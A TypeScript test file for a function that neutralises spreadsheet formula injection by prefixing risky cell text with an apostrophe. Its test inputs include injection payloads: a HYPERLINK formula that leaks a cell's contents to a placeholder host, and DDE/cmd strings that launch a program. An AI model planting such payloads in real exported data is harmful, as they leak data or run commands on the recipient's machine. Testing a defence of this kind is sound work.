import { test } from 'uvu';
import * as assert from 'uvu/assert';
import fc from 'fast-check';
import { inert } from '../../src/write/formulas.ts';

test('what a spreadsheet would reckon has an apostrophe before it', () => {
  const formulas = ['=1+1', '+1+1', '-1+1', '@x', '-x', '@SUM(1+9)', '＝1+1', '=HYPERLINK("http://example.invalid/?d="&A1,"see")', '-2+3+cmd|\' /C calc\'!A0', 'DDE ("cmd";"/C calc")', '\t=1+1', '\u00a0=1+1'];
  assert.equal(formulas.filter((text) => inert(text) !== `'${text}`), []);
});

test('so has what stands behind a line break or a semicolon, where a spreadsheet may begin a cell', () => {
  assert.equal([inert('segura\n=1+1'), inert('\r=1'), inert('a; =cmd|b'), inert('=1+1;2')], ["segura\n'=1+1", "'\r'=1", "a; '=cmd|b", "'=1+1;2"]);
});

test('numbers with a sign, dashes and prose stay as they are', () => {
  const innocent = ['-5', '-3,2', '+34 600 000 000', '-', '- a note', '1-2', '@who in the text: a@b.es', '−4', '+12 %', 'at least 241', '', 'a = b', '- ex-policía, según el informe', '¿=?'];
  assert.equal(innocent.filter((text) => inert(text) !== text), []);
});

test('a text that was made inert stays as it is, and has no word less', () => {
  fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'=+-@x1 ;\n\t(|') }), (text) => {
    const once = inert(text);
    assert.is(inert(once), once);
    assert.is(once.replaceAll("'", ''), text);
  }));
});

test.run();
